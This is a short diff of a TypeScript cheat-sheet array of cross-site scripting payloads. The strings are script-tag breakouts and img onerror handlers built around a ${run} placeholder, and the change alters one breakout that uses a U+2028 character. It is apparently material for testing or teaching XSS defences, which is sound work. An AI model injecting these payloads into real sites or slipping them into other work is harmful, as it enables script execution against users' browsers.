@@ -274,7 +274,7 @@ export const cheatSheet: readonly PayloadClass[] = [
       `<p title=\`<img src=x onerror=${run}>\`>`,
       `<script><!--<script></script><img src=x onerror=${run}>`,
       `</script><script>${run}</script>`,
-      `<\/script\u2028><script>${run}<\/script>`,
+      `</script\u2028><script>${run}</script>`,
     ],
   },
   {
